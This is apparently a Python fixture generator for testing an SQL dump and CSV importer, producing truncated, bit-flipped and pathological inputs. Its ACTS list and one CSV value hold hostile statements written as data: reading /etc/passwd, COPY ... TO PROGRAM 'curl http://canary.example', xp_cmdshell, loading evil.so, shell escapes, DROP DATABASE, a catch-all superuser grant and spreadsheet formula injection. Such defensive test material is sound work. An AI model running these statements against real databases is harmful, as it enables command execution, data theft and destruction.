"""Small hostile dumps and delimited texts, the same each time."""

import gzip
import random
from collections.abc import Iterator

MYSQL = (
    b"/*M!999999\\- enable the sandbox mode */ \n-- MariaDB dump 10.19\n/*!40101 SET NAMES utf8mb4 */;\nCREATE TABLE `t` (`a` int, `b` text);\n"
    b"INSERT INTO `t` VALUES (1,'a\\'b\\\\'),(2,NULL),(3,_binary '\\0'),(4,'caf\xc3\xa9');\n"
    b"DELIMITER ;;\n/*!50003 CREATE TRIGGER `x` AFTER INSERT ON `t` FOR EACH ROW BEGIN INSERT INTO t VALUES (9,'no'); END */;;\nDELIMITER ;\n"
)  # fmt: skip
COPY = (
    b"--\n-- PostgreSQL database dump\n--\nSET standard_conforming_strings = on;\nCREATE TABLE public.t (a int, b text);\n"
    b"COPY public.t (a, b) FROM stdin;\n1\ta\\tb\\\\\n2\t\\N\n3\t\\x41\\101\n\\.\nINSERT INTO public.t VALUES (4, E'\\'', $$q$$);\n"
)  # fmt: skip
CSV = '\ufeffid;"na""me";mail\n1;"a\nb";x@example.org\n2;Zoë;"lone\n3;ok;\0\r4;😀;"""\n'.encode()
ROW = "INSERT INTO t VALUES (1,'x');\n"
ACTS = (
    "DROP DATABASE mysql;", "ATTACH DATABASE '/tmp/owned.db' AS o; CREATE TABLE o.t (x);", "SELECT load_extension('/tmp/evil.so');",
    "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t;", "SELECT 'x' INTO OUTFILE '/tmp/owned';", "SELECT 'x' INTO DUMPFILE '/tmp/owned';",
    "COPY t FROM PROGRAM 'touch /tmp/owned';", "COPY t TO PROGRAM 'curl http://canary.example';", "COPY t TO '/tmp/owned';",
    "\\! touch /tmp/owned", "\\copy t to program 'touch /tmp/owned'", "\\i /etc/passwd", ".shell touch /tmp/owned", ".system touch /tmp/owned",
    ".output |touch /tmp/owned", ".load /tmp/evil", "system touch /tmp/owned", "source /etc/passwd", "EXEC xp_cmdshell 'calc';",
    "CREATE FUNCTION sys_exec RETURNS int SONAME 'udf.so';", "CREATE USER 'u'@'%' IDENTIFIED BY 'p'; GRANT ALL ON *.* TO 'u'@'%';",
    "CHANGE MASTER TO MASTER_HOST='canary.example'; START SLAVE;", "CREATE SUBSCRIPTION s CONNECTION 'host=canary.example' PUBLICATION p;",
    "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'canary.example');", "SELECT * FROM dblink('host=canary.example','select 1');",
    "CREATE TABLE f (a int) ENGINE=FEDERATED CONNECTION='mysql://u@canary.example/d/t';", "DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$;",
    "INSERT INTO t VALUES (LOAD_FILE('/etc/passwd'));", "/*!50000 /*!50001 LOAD DATA INFILE '/etc/passwd' INTO TABLE t */ */;",
    "PRAGMA writable_schema=1;", "VACUUM INTO '/tmp/owned';",
)  # fmt: skip
SHAPES = {
    "unterminated_string": "INSERT INTO t VALUES (2,'never closed",
    "unterminated_comment": "/* never closed",
    "unterminated_name": "INSERT INTO `t VALUES (2,'x');",
    "unterminated_dollar": "SELECT $a$ never closed",
    "unterminated_block": "CREATE TRIGGER x BEGIN SELECT 1; SELECT 2;",
    "nested_brackets": "SELECT " + "(" * 300_000 + ";",
    "nested_in_a_tuple": "INSERT INTO t VALUES (" + "(" * 200_000 + "1" + ")" * 200_000 + ");",
    "only_commas": "INSERT INTO t VALUES (" + "," * 300_000 + ");",
    "only_quotes": "INSERT INTO t VALUES (" + "'" * 300_001 + ");",
    "only_backslashes": "INSERT INTO t VALUES ('" + "\\" * 300_001 + "');",
    "a_growing_call": "INSERT INTO t VALUES (2," + "replace(" * 30 + "'a'" + ",'a','aaaaaaaaaaaaaaaa')" * 30 + ");",
    "many_tables": "".join(f"INSERT INTO t{n} VALUES (1);\n" for n in range(12_000)),
    "many_columns": "CREATE TABLE w (" + ",".join(f"c{n} int" for n in range(60_000)) + ");",
    "many_widths": "INSERT INTO t VALUES " + ",".join("(" + ",".join("1" * (n % 50 + 1)) + ")" for n in range(4_000)) + ";",
    "a_long_delimiter": "DELIMITER " + "x" * 300_000 + "\nSELECT 1;",
    "numbers": "INSERT INTO t VALUES (1e99999999," + "9" * 300_000 + ",0x" + "F" * 300_001 + ");",
    "long_name": "INSERT INTO `" + "n" * 300_000 + "` VALUES (2,'x');",
    "names_of_names": "INSERT INTO " + "a." * 100_000 + "a VALUES (2,'x');",
    "surrogates": "INSERT INTO t VALUES (2,U&'\\D800\\+110000',chr(55296),char(1114112));",
    "bidi": "INSERT INTO t VALUES (2,'\u202egnp.exe\u2066');",
}  # fmt: skip
TEXTS = {
    "nul": b"id,name\n1,a\0b\n2,\0\0\n" + b"\0" * 10_000,
    "lone_quote": b'id,name,x\n1,"a,b\n' + b"2,c,d\n" * 2_000,
    "lone_quotes": b"id,name\n" + b'1,"\n' * 5_000,
    "quotes": b"id,name\n" + b'"' * 200_001,
    "commas": b"id,name\n" + b"," * 200_000,
    "wide": b",".join(b"c%d" % n for n in range(60_000)) + b"\n1",
    "one_line": b"x" * 600_000,
    "one_cell": b'id,name\n1,"' + b"y" * 600_000,
    "mixed_ends": b"a,b\r\n1,2\r3,4\n5,6\n\r7,8\r\r\n" * 500,
    "inner_marks": b"\xef\xbb\xbfa,b\n\xef\xbb\xbf1,\xef\xbb\xbf2\n" * 50,
    "utf16_no_mark": "id,name\n1,Zoë\n".encode("utf-16-le") * 50,
    "utf16_odd_length": "id,name\n1,Zoë\n".encode("utf-16-le") * 50 + b"x",
    "utf16_surrogates": b"\xff\xfe" + "id,name\n1,".encode("utf-16-le") + b"\x00\xd8" * 40 + "\n".encode("utf-16-le"),
    "utf32_beyond": b"\xff\xfe\0\0" + "id,name\n1,".encode("utf-32-le") + b"\0\0\x11\0" * 9,
    "utf7": b"id,name\n1,Zo+AOs-\n" * 50,
    "overlong": b"id,name\n1,\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf\n" * 50,
    "cesu": b"id,name\n1,\xed\xa0\xbd\xed\xb8\x80\xed\xb3\xbf\n" * 50,
    "mixed_encodings": "id,name\n1,Zoë\n".encode() + "2,Müller\n".encode("cp1252") * 9 + "3,محمد\n".encode("cp1256") * 9,
    "high_bytes": b"id,name\n1," + bytes(range(128, 256)) + b"\n",
    "sep_line": b"sep=\n1,2\n",
    "formulas": b"id,name\n1,=cmd|' /C calc'!A0\n2,@SUM(1)\n3,+1\n",
    "spaces": b" " * 300_000,
    "line_feeds": b"a,b\n" + b"\n" * 300_000,
    "escapes": b'id,name\n1,"a\\"b\\\\"\n' + b"\\" * 100_000,
}  # fmt: skip


def make() -> Iterator[tuple[str, bytes]]:
    """Names and contents."""
    for name, data, ending in (
        ("mysql", MYSQL, "sql"),
        ("copy", COPY, "sql"),
        ("text", CSV, "csv"),
    ):
        for percent in range(5, 100, 5):
            yield f"sql_{name}_cut_{percent:02}.{ending}", data[: len(data) * percent // 100]
        rng = random.Random(8)
        for number in range(20):
            flipped = bytearray(data)
            for _ in range(1 + number // 4):
                flipped[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
            yield f"sql_{name}_flip_{number:02}.{ending}", bytes(flipped)
    for number, act in enumerate(ACTS):
        yield f"sql_act_{number:02}.sql", f"-- dump\n{ROW}{act}\n{ROW}".encode()
    for name, shape in SHAPES.items():
        yield f"sql_{name}.sql", f"-- dump\n{ROW}{shape}\n{ROW}".encode()
    for name, data in TEXTS.items():
        yield f"csv_{name}.csv", data
    yield "sql_wrong_magic.sql", b"PGDMP\x01\x0e\x00" + COPY
    yield "sql_other_encoding.sql", MYSQL.decode().encode("utf-16")
    yield (
        "sql_one_endless_tuple.sql.gz",
        gzip.compress(
            b"-- MySQL dump\nINSERT INTO t VALUES (1,'x'),(2,'" + b"y" * (12 << 20) + b"');\n",
            mtime=0,
        ),
    )
    yield "csv_one_endless_line.csv.gz", gzip.compress(b"a,b\n1," + b"y" * (12 << 20), mtime=0)
